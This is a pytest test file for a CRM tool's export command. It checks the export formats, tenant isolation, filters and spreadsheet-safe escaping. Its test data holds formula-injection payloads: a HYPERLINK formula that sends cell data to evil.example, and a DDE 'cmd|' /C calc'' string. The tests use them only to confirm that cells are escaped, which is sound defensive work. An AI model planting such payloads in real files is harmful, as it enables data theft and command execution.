"""`export`: whole views as files, as the person who asks sees them."""

import csv
import io
import json
import os
import subprocess
from collections.abc import Sequence
from datetime import datetime
from decimal import Decimal
from pathlib import Path
from typing import Any, cast

import psycopg
import pytest
from arro3.io import read_parquet
from psycopg import sql

from commands.formats import harmless_cell
from schema.views import VIEWS
from tests.commands.terminal import PROGRAM, Terminal

FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'


def export(terminal: Terminal, *arguments: str) -> str:
    ran = terminal.run("export", *arguments)
    assert (ran.code, ran.err) == (0, "")
    return ran.out


def cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def objects(text: str) -> list[dict[str, Any]]:
    return [json.loads(line) for line in text.splitlines()]


def parquet(path: Path) -> tuple[dict[str, str], list[tuple[Any, ...]]]:
    """The columns with their types, and the rows."""
    table = read_parquet(path).read_all()
    columns = {field.name: str(field.type).strip().partition("<")[2][:-1] for field in table.schema}
    # Typed by its author as numpy arrays; they are lists.
    values = [cast("list[Any]", table[name].to_pylist()) for name in columns]  # pyright: ignore[reportUnknownMemberType]
    return columns, list(zip(*values, strict=True))


def as_the_owner_sees(terminal: Terminal, slug: str, view: str) -> int:
    with psycopg.connect(terminal.environment["CRM_AGENT_DATABASE_URL"]) as owner:
        owner.execute("SELECT crm.enter(%s)", [slug])
        owner.execute("SET ROLE crm_reader")
        owner.execute("SET search_path = crm_read")
        found = owner.execute(sql.SQL("SELECT count(*) FROM {}").format(sql.Identifier(view))).fetchone()
    assert found is not None
    return found[0]


@pytest.mark.parametrize("view", VIEWS)
def test_every_view_comes_whole_in_every_format(terminal: Terminal, tmp_path: Path, view: str) -> None:
    count = as_the_owner_sees(terminal, "brightwater", view)
    columns = [column.name for column in VIEWS[view].columns]
    lines = list(csv.reader(io.StringIO(export(terminal, view), newline="")))
    found = objects(export(terminal, view, "--format", "jsonl"))
    document = terminal.json("export", view)
    file = tmp_path / "rows.parquet"
    told = terminal.json("export", view, "--output", str(file))
    names, rows = parquet(file)

    assert lines[0] == [each["name"] for each in document["columns"]] == list(names) == columns
    assert [len(lines) - 1, len(found), len(document["rows"]), document["total"], len(rows)] == [count] * 5
    assert told == {"view": view, "format": "parquet", "file": str(file), "total": count, "filters": []}
    assert all(list(each) == columns for each in found)


def test_the_formats_say_the_same(terminal: Terminal, tmp_path: Path) -> None:
    chosen = ("opportunity", "--where", "stage in (won, lost)", "--where", "amount > 100000")
    file = tmp_path / "rows.parquet"
    sheet, lines = cells(export(terminal, *chosen)), objects(export(terminal, *chosen, "--format", "jsonl"))
    terminal.json("export", *chosen, "--output", str(file))
    types, rows = parquet(file)
    typed = [dict(zip(types, row, strict=True)) for row in rows]
    ids = [each["opportunity_id"] for each in lines]

    assert len(ids) > 20
    assert (
        ids == sorted(ids) == [each["opportunity_id"] for each in sheet] == [each["opportunity_id"] for each in typed]
    )
    assert {each["stage"] for each in lines} == {"won", "lost"}
    assert all(isinstance(each["amount"], str) and Decimal(each["amount"]) > 100000 for each in lines)
    assert [each["amount"] for each in sheet] == [each["amount"] for each in lines]
    assert [each["amount"] for each in typed] == [Decimal(each["amount"]) for each in lines]
    assert all(each["created_at"].endswith("Z") for each in lines)
    assert [each["closed_at"] for each in typed] == [datetime.fromisoformat(each["closed_at"]) for each in lines]
    assert {each["is_won"] for each in lines} == {True, False}
    assert {each["is_won"] for each in sheet} == {"true", "false"}
    assert (types["amount"], types["expected_close_date"]) == ("Decimal128(38, 6)", "Date32")
    assert any(each["loss_reason"] is None for each in lines)


@pytest.mark.promise("tenant:sealed")
def test_rows_of_other_tenants_never_appear(terminal: Terminal) -> None:
    for view in VIEWS:
        ours, theirs = (
            set(export(terminal, view, "--format", "jsonl", "--as", f"admin@{slug}.example").splitlines())
            for slug in ("brightwater", "kestrel")
        )
        assert view == "statuses" or not ours & theirs, view
        assert len(theirs) <= as_the_owner_sees(terminal, "kestrel", view)


@pytest.mark.parametrize("role", ["viewer", "member"])
def test_everybody_may_export_what_they_may_read(terminal: Terminal, role: str) -> None:
    assert len(cells(export(terminal, "contacts", "--as", f"{role}@brightwater.example"))) == 400


def test_filters_mean_what_they_mean_everywhere(terminal: Terminal) -> None:
    mine = cells(export(terminal, "tasks", "--where", "assignee_id = me and is_open is true"))
    listed = terminal.json("records", "list", "task", "--where", "assignee_id = me", "--where", "is_open = yes")
    none = export(terminal, "opportunities", "--where", "name = Nothing is called so")
    moves = objects(export(terminal, "status_changes", "--where", "to_status = won", "--format", "jsonl"))

    assert len(mine) == listed["total"]
    assert len(none.splitlines()) == 1
    assert {each["to_status"] for each in moves} == {"won"}


def test_a_file_opens_in_a_spreadsheet_and_runs_nothing(terminal: Terminal, tmp_path: Path) -> None:
    texts = [FORMULA, "@SUM(1)", "-2+cmd|' /C calc'!A0", 'Größe "XL",\nzwei', "\t=1", "'quoted"]
    for text in texts:
        terminal.json("records", "create", "note", "--data", json.dumps({"body": text}), "--reason", "Test")
    file = tmp_path / "notes.csv"
    terminal.json("export", "notes", "--where", "created_at >= today", "--output", str(file))
    raw = file.read_bytes()
    shown = [each["body"] for each in cells(raw.decode("utf-8-sig"))]
    exact = objects(export(terminal, "notes", "--where", "created_at >= today", "--format", "jsonl"))

    assert raw.startswith(b"\xef\xbb\xbfnote_id,body,")
    assert b"\r\n" in raw
    stored = [each["body"] for each in exact]
    assert {FORMULA, "@SUM(1)", 'Größe "XL",\nzwei'} <= set(stored)
    assert shown == [harmless_cell(text) for text in stored]
    assert f"'{FORMULA}" in shown
    assert not any(text.startswith(("=", "@", "-", "\t")) for text in shown)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
        ("\r=1", "'\r=1"),
        ("+49 (30) 123-45/6", "+49 (30) 123-45/6"),
        ("-5.00", "-5.00"),
        ("plain = text", "plain = text"),
        ("", ""),
    ],
)
def test_only_what_could_be_run_gets_an_apostrophe(text: str, shown: str) -> None:
    assert harmless_cell(text) == shown


@pytest.mark.parametrize(
    ("arguments", "says"),
    [
        (("oportunities",), "did you mean opportunities?"),
        (("unicorns",), "The views are tenants, users"),
        (("users; drop",), "There is no view"),
        (("deals",), "There is no view deals; did you mean opportunities?"),
        (("opportunities", "--where", "amuont > 5"), "did you mean amount?"),
        (("opportunities", "--where", "stage = wonderful"), "one of new, qualified"),
        (("status_changes", "--where", "to_stage = won"), "did you mean to_status"),
        (("accounts", "--output", "/nonexistent/x.csv"), "/nonexistent/x.csv cannot be written"),
        (("accounts", "--output", "/"), "/ cannot be written"),
    ],
)
def test_what_cannot_be_exported_is_one_sentence(terminal: Terminal, arguments: Sequence[str], says: str) -> None:
    ran = terminal.run("export", *arguments, "--json")

    assert (ran.code, ran.error[0]) == (1, "invalid")
    assert says in ran.error[1]


def test_a_file_is_whole_or_as_it_was(terminal: Terminal, tmp_path: Path) -> None:
    file = tmp_path / "kept.csv"
    file.write_text("as it was")
    failed = terminal.run("export", "accounts", "--where", "nonsense", "--output", str(file))
    kept, left = file.read_text(), list(tmp_path.iterdir())
    terminal.json("export", "accounts", "--output", str(file))

    assert failed.code == 1
    assert (kept, left) == ("as it was", [file])
    assert file.stat().st_mode & 0o777 == 0o600
    assert file.read_bytes().count(b"\r\n") == 121


def test_a_pipe_that_is_named_stays_a_pipe(terminal: Terminal, tmp_path: Path) -> None:
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    with subprocess.Popen(["cat", pipe], stdout=subprocess.PIPE) as reader:
        terminal.json("export", "statuses", "--format", "jsonl", "--output", str(pipe))
        out, _ = reader.communicate()

    assert len(out.splitlines()) == 21
    assert pipe.is_fifo()


def test_whoever_reads_only_the_beginning_is_no_error(terminal: Terminal) -> None:
    command = f"{PROGRAM} export interactions --format jsonl | head -n 1"
    done = subprocess.run(command, shell=True, env=terminal.whole_environment, capture_output=True, check=True)

    assert json.loads(done.stdout)["interaction_id"]
    assert done.stderr == b""
